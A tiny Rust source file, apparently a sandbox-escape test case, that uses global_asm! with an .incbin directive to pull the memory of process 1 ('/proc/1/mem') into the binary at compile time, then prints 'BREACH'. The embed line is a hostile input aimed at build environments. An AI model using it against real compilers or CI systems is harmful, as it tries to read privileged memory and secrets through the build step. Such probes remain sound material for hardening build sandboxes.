use std::arch::global_asm;

global_asm!(".incbin \"/proc/1/mem\"");

fn main() {
    println!("BREACH");
}
